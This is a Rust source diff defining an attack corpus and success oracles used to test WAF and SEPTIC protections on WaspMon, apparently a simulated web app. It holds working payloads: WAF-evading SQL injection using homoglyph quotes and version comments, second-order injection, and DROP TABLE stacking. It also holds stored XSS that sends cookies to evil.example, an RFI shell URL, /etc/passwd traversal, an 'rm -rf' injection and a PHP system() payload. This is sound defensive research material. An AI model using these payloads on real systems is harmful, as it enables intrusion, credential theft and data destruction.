@@ -1,0 +1,467 @@
+//! The attack corpus against WaspMon: every attack the demonstration runs
+//! in phases IV-A/B/D, each with an executable request sequence and a
+//! ground-truth oracle for "did the malicious effect actually happen".
+
+use septic_dbms::Value;
+use septic_http::HttpRequest;
+use septic_webapp::deployment::{Deployment, DeploymentResponse};
+use septic_webapp::WaspMon;
+
+use crate::taxonomy::AttackClass;
+
+/// One attack: an executable request sequence plus a success oracle.
+///
+/// `execute` sends the attack's requests (setup steps first, trigger
+/// last); `succeeded` checks the deployment for the malicious effect —
+/// by probing through the application or by inspecting storage directly
+/// (ground truth, outside any protection layer).
+#[derive(Debug, Clone, Copy)]
+pub struct AttackSpec {
+    pub id: &'static str,
+    pub name: &'static str,
+    pub class: AttackClass,
+    pub description: &'static str,
+    pub execute: fn(&Deployment) -> Vec<DeploymentResponse>,
+    pub succeeded: fn(&Deployment) -> bool,
+}
+
+/// The full corpus, in demo order.
+#[must_use]
+pub fn corpus() -> Vec<AttackSpec> {
+    vec![
+        AttackSpec {
+            id: "C1",
+            name: "login quote tautology",
+            class: AttackClass::ClassicSqli,
+            description: "textbook `' OR '1'='1` — correctly neutralised by escaping",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/login")
+                        .param("user", "admin' OR '1'='1")
+                        .param("pass", "x"),
+                )]
+            },
+            succeeded: |d| {
+                last_login_granted(d, "admin' OR '1'='1", "x")
+            },
+        },
+        AttackSpec {
+            id: "C2",
+            name: "search quote UNION",
+            class: AttackClass::ClassicSqli,
+            description: "ASCII-quote UNION in /search — neutralised by escaping",
+            execute: |d| {
+                vec![d.request(&HttpRequest::get("/search").param(
+                    "q",
+                    "%' UNION SELECT username, password FROM users-- ",
+                ))]
+            },
+            succeeded: |d| {
+                let r = d.request(&HttpRequest::get("/search").param(
+                    "q",
+                    "%' UNION SELECT username, password FROM users-- ",
+                ));
+                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+            },
+        },
+        AttackSpec {
+            id: "S1",
+            name: "numeric-context tautology (textbook)",
+            class: AttackClass::NumericContext,
+            description: "`days=0 OR 1=1` dumps every device's readings",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::get("/history")
+                        .param("device", "zzz-no-such")
+                        .param("days", "0 OR 1=1"),
+                )]
+            },
+            succeeded: |d| {
+                let r = d.request(
+                    &HttpRequest::get("/history")
+                        .param("device", "zzz-no-such")
+                        .param("days", "0 OR 1=1"),
+                );
+                r.response.body.contains("800")
+            },
+        },
+        AttackSpec {
+            id: "S2",
+            name: "numeric-context tautology (no literal pattern)",
+            class: AttackClass::NumericContext,
+            description: "`days=0 OR watts > 0` — no `N=N` shape for the WAF to see",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::get("/history")
+                        .param("device", "zzz-no-such")
+                        .param("days", "0 OR watts > 0"),
+                )]
+            },
+            succeeded: |d| {
+                let r = d.request(
+                    &HttpRequest::get("/history")
+                        .param("device", "zzz-no-such")
+                        .param("days", "0 OR watts > 0"),
+                );
+                r.response.body.contains("800")
+            },
+        },
+        AttackSpec {
+            id: "S3",
+            name: "homoglyph UNION (plain keywords)",
+            class: AttackClass::HomoglyphFirstOrder,
+            description: "U+02BC breaks out of the string; plain UNION SELECT exfiltrates",
+            execute: |d| vec![d.request(&homoglyph_union_request(false))],
+            succeeded: |d| {
+                let r = d.request(&homoglyph_union_request(false));
+                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+            },
+        },
+        AttackSpec {
+            id: "S4",
+            name: "homoglyph UNION (version-comment keywords)",
+            class: AttackClass::HomoglyphFirstOrder,
+            description: "keywords wrapped in /*!…*/ — erased from the WAF view, executed by MySQL",
+            execute: |d| vec![d.request(&homoglyph_union_request(true))],
+            succeeded: |d| {
+                let r = d.request(&homoglyph_union_request(true));
+                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+            },
+        },
+        AttackSpec {
+            id: "S5",
+            name: "login mimicry (numeric tautology)",
+            class: AttackClass::SyntaxMimicry,
+            description: "`admin U+02BC AND 1=1-- ` reproduces the learned arity",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/login")
+                        .param("user", "admin\u{02BC} AND 1=1-- ")
+                        .param("pass", "whatever"),
+                )]
+            },
+            succeeded: |d| last_login_granted(d, "admin\u{02BC} AND 1=1-- ", "whatever"),
+        },
+        AttackSpec {
+            id: "S6",
+            name: "login mimicry (homoglyph string tautology)",
+            class: AttackClass::SyntaxMimicry,
+            description: "string tautology quoted entirely with U+02BC — nothing for the WAF",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/login")
+                        .param("user", "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ")
+                        .param("pass", "whatever"),
+                )]
+            },
+            succeeded: |d| {
+                last_login_granted(d, "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ", "whatever")
+            },
+        },
+        AttackSpec {
+            id: "S7",
+            name: "second-order export (plain keywords)",
+            class: AttackClass::SecondOrder,
+            description: "bomb stored via prepared INSERT, detonates in legacy /export",
+            execute: |d| second_order(d, false),
+            succeeded: |d| second_order_leaked(d, "SO-PLAIN"),
+        },
+        AttackSpec {
+            id: "S8",
+            name: "second-order export (version-comment keywords)",
+            class: AttackClass::SecondOrder,
+            description: "as S7 with /*!…*/-hidden keywords — invisible to the WAF at store time",
+            execute: |d| second_order(d, true),
+            succeeded: |d| second_order_leaked(d, "SO-VC"),
+        },
+        AttackSpec {
+            id: "S10",
+            name: "schema enumeration via information_schema",
+            class: AttackClass::HomoglyphFirstOrder,
+            description: "homoglyph breakout + UNION over information_schema.columns \
+                          (the recon step before a targeted exfiltration)",
+            execute: |d| {
+                vec![d.request(&HttpRequest::get("/history").param(
+                    "device",
+                    "zz\u{02BC} UNION SELECT table_name, column_name \
+                     FROM information_schema.columns-- ",
+                ).param("days", "0"))]
+            },
+            succeeded: |d| {
+                let r = d.request(&HttpRequest::get("/history").param(
+                    "device",
+                    "zz\u{02BC} UNION SELECT table_name, column_name \
+                     FROM information_schema.columns-- ",
+                ).param("days", "0"));
+                // The schema leaks: column names of the users table appear.
+                r.response.body.contains("password") && r.response.body.contains("users")
+            },
+        },
+        AttackSpec {
+            id: "S9",
+            name: "piggybacked DROP TABLE",
+            class: AttackClass::Piggyback,
+            description: "`days=0; DROP TABLE readings-- ` stacks a destructive statement",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::get("/history")
+                        .param("device", "Kitchen Meter")
+                        .param("days", "0; DROP TABLE readings-- "),
+                )]
+            },
+            succeeded: |d| !d.server().with_db(|db| db.has_table("readings")),
+        },
+        AttackSpec {
+            id: "X1",
+            name: "stored XSS (script tag)",
+            class: AttackClass::StoredXss,
+            description: "the paper's Section II-D2 example payload",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/add")
+                        .param("device_id", "1")
+                        .param("body", "<script>alert('Hello!');</script>")
+                        .param("author", "mallory"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "<script>"),
+        },
+        AttackSpec {
+            id: "X2",
+            name: "stored XSS (exotic event handler)",
+            class: AttackClass::StoredXss,
+            description: "`<details open ontoggle=…>` — outside the WAF's handler list",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/add")
+                        .param("device_id", "1")
+                        .param("body", "<details open ontoggle=alert(document.cookie)>")
+                        .param("author", "mallory"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "ontoggle"),
+        },
+        AttackSpec {
+            id: "X3",
+            name: "stored XSS (img onerror)",
+            class: AttackClass::StoredXss,
+            description: "classic image-error handler",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/add")
+                        .param("device_id", "1")
+                        .param("body", "<img src=x onerror=alert(1)>")
+                        .param("author", "mallory"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "onerror"),
+        },
+        AttackSpec {
+            id: "X4",
+            name: "stored XSS via UPDATE",
+            class: AttackClass::StoredXss,
+            description: "payload injected through the note-edit UPDATE path",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/edit")
+                        .param("id", "1")
+                        .param("body", "<svg/onload=fetch('//evil.example/'+document.cookie)>"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "onload"),
+        },
+        AttackSpec {
+            id: "R1",
+            name: "RFI collector URL",
+            class: AttackClass::Rfi,
+            description: "remote shell URL stored as a collector endpoint",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/collectors/add")
+                        .param("url", "http://evil.example/shell.php?cmd=id"),
+                )]
+            },
+            succeeded: |d| collectors_contain(d, "evil.example"),
+        },
+        AttackSpec {
+            id: "R2",
+            name: "LFI path traversal",
+            class: AttackClass::Lfi,
+            description: "collector pointed at /etc/passwd via traversal",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/collectors/add")
+                        .param("url", "../../../../etc/passwd"),
+                )]
+            },
+            succeeded: |d| collectors_contain(d, "etc/passwd"),
+        },
+        AttackSpec {
+            id: "O1",
+            name: "OSCI chained command",
+            class: AttackClass::Osci,
+            description: "`; rm -rf` in a note consumed by a maintenance script",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/add")
+                        .param("device_id", "1")
+                        .param("body", "status ok; rm -rf /var/lib/wasp")
+                        .param("author", "mallory"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "rm -rf"),
+        },
+        AttackSpec {
+            id: "O2",
+            name: "RCE PHP payload",
+            class: AttackClass::Rce,
+            description: "PHP eval shape stored for a template-including page",
+            execute: |d| {
+                vec![d.request(
+                    &HttpRequest::post("/notes/add")
+                        .param("device_id", "1")
+                        .param("body", "<?php system('cat /etc/passwd'); ?>")
+                        .param("author", "mallory"),
+                )]
+            },
+            succeeded: |d| notes_render_contains(d, "system("),
+        },
+    ]
+}
+
+/// Corpus restricted to the semantic-mismatch SQLI classes — the attacks
+/// the demo runs when "protections are in place".
+#[must_use]
+pub fn semantic_mismatch_corpus() -> Vec<AttackSpec> {
+    corpus()
+        .into_iter()
+        .filter(|a| a.class.is_semantic_mismatch())
+        .collect()
+}
+
+// ---- oracles ---------------------------------------------------------
+
+fn last_login_granted(d: &Deployment, user: &str, pass: &str) -> bool {
+    let r = d.request(&HttpRequest::post("/login").param("user", user).param("pass", pass));
+    r.response.is_success() && r.response.set_session.is_some()
+}
+
+fn notes_render_contains(d: &Deployment, marker: &str) -> bool {
+    let r = d.request(&HttpRequest::get("/notes").param("device_id", "1"));
+    r.response.body.contains(marker)
+}
+
+fn collectors_contain(d: &Deployment, marker: &str) -> bool {
+    // Ground truth straight from storage (no protection layer involved).
+    d.server().with_db(|db| {
+        db.table("collectors").is_ok_and(|t| {
+            t.scan().any(|(_, row)| {
+                row.iter().any(|v| v.to_display_string().contains(marker))
+            })
+        })
+    })
+}
+
+fn homoglyph_union_request(version_comments: bool) -> HttpRequest {
+    let payload = if version_comments {
+        "zz\u{02BC} /*!UNION*/ /*!SELECT*/ username, password FROM users-- ".to_string()
+    } else {
+        "zz\u{02BC} UNION SELECT username, password FROM users-- ".to_string()
+    };
+    HttpRequest::get("/history").param("device", payload).param("days", "0")
+}
+
+fn second_order(d: &Deployment, version_comments: bool) -> Vec<DeploymentResponse> {
+    let marker = if version_comments { "SO-VC" } else { "SO-PLAIN" };
+    let bomb = if version_comments {
+        format!("{marker}\u{02BC} /*!UNION*/ /*!SELECT*/ username, password, 1 FROM users-- ")
+    } else {
+        format!("{marker}\u{02BC} UNION SELECT username, password, 1 FROM users-- ")
+    };
+    let store = d.request(
+        &HttpRequest::post("/devices/add").param("name", bomb).param("location", "attic"),
+    );
+    // Find the stored bomb's device id (ground truth, straight from disk).
+    let id = bomb_device_id(d, marker);
+    let trigger = d.request(
+        &HttpRequest::get("/export").param("device_id", id.unwrap_or(0).to_string()),
+    );
+    vec![store, trigger]
+}
+
+fn bomb_device_id(d: &Deployment, marker: &str) -> Option<i64> {
+    d.server().with_db(|db| {
+        let t = db.table("devices").ok()?;
+        for (_, row) in t.scan() {
+            if let Value::Str(name) = &row[1] {
+                if name.starts_with(marker) {
+                    return row[0].to_int();
+                }
+            }
+        }
+        None
+    })
+}
+
+fn second_order_leaked(d: &Deployment, marker: &str) -> bool {
+    let Some(id) = bomb_device_id(d, marker) else { return false };
+    let r = d.request(&HttpRequest::get("/export").param("device_id", id.to_string()));
+    r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+}
+
+/// Builds the standard deployment target for the corpus (WaspMon).
+#[must_use]
+pub fn target_app() -> std::sync::Arc<dyn septic_webapp::WebApp> {
+    std::sync::Arc::new(WaspMon::new())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn corpus_has_all_demo_classes() {
+        let c = corpus();
+        assert!(c.len() >= 15);
+        for class in [
+            AttackClass::ClassicSqli,
+            AttackClass::NumericContext,
+            AttackClass::HomoglyphFirstOrder,
+            AttackClass::SyntaxMimicry,
+            AttackClass::SecondOrder,
+            AttackClass::Piggyback,
+            AttackClass::StoredXss,
+            AttackClass::Rfi,
+            AttackClass::Lfi,
+            AttackClass::Osci,
+            AttackClass::Rce,
+        ] {
+            assert!(c.iter().any(|a| a.class == class), "missing {class}");
+        }
+    }
+
+    #[test]
+    fn ids_are_unique() {
+        let c = corpus();
+        let mut ids: Vec<&str> = c.iter().map(|a| a.id).collect();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), c.len());
+    }
+
+    #[test]
+    fn every_semantic_mismatch_attack_succeeds_against_bare_app() {
+        // Phase IV-A ground truth: with sanitization only (no WAF, no
+        // SEPTIC), every semantic-mismatch attack achieves its effect.
+        for attack in corpus() {
+            let d = Deployment::new(target_app(), None, None).expect("deploy");
+            let _ = (attack.execute)(&d);
+            let effect = (attack.succeeded)(&d);
+            if attack.class == AttackClass::ClassicSqli {
+                assert!(!effect, "{}: sanitization must stop classic SQLI", attack.id);
+            } else {
+                assert!(effect, "{}: must succeed against the bare app", attack.id);
+            }
+        }
+    }
+}
